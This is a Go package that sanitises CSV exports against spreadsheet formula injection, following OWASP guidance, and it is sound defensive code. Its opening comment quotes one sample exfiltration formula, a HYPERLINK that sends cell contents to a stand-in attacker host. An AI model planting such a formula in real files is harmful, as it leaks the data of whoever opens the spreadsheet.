// Package csvsafe writes CSV files that spreadsheets open as data: a cell
// that Excel, LibreOffice or Google Sheets would read as a formula is
// neutralised, following OWASP's guidance on CSV injection.
//
// Cells come from people who are not the ones opening the file (a write key
// names a user id, an event, a trait), so a cell such as
// =HYPERLINK("https://evil.example/?d="&A1,"report") must not run when a
// marketer opens an export.
package csvsafe

import (
	"encoding/csv"
	"io"
	"regexp"
	"strings"
)

// triggers are the characters that make a spreadsheet read a cell as a
// formula when they come first: = + - @ (OWASP), tab and carriage return
// (OWASP), line feed and NUL (ASVS 1.2.10 adds NUL; a line feed behaves
// like a carriage return in LibreOffice).
const triggers = "=+-@\t\r\n\x00"

// number is a plain decimal number, such as -12.50 or 1e-3: a spreadsheet
// reads it as that number, never as a formula, so it is left as is (a
// report's negative revenue stays a number).
var number = regexp.MustCompile(`^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$`)

// Cell returns s as a cell that spreadsheets show as text: a cell whose
// first character, or first after leading spaces (some spreadsheets trim
// them), is one of = + - @ tab CR LF NUL is prefixed with a single quote,
// which spreadsheets take as "this is text" and do not display. Plain
// numbers are returned unchanged. Quoting of separators and double quotes
// is encoding/csv's job.
func Cell(s string) string {
	t := strings.TrimLeft(s, " ")
	if t == "" || !strings.ContainsRune(triggers, rune(t[0])) || number.MatchString(s) {
		return s
	}
	return "'" + s
}

// Row returns a copy of row with every cell neutralised by Cell.
func Row(row []string) []string {
	out := make([]string, len(row))
	for i, c := range row {
		out[i] = Cell(c)
	}
	return out
}

// Writer is a csv.Writer whose Write and WriteAll neutralise every cell.
type Writer struct {
	*csv.Writer
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{csv.NewWriter(w)} }

// Write writes one record, its cells neutralised.
func (w *Writer) Write(record []string) error { return w.Writer.Write(Row(record)) }

// WriteAll writes records, their cells neutralised, and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
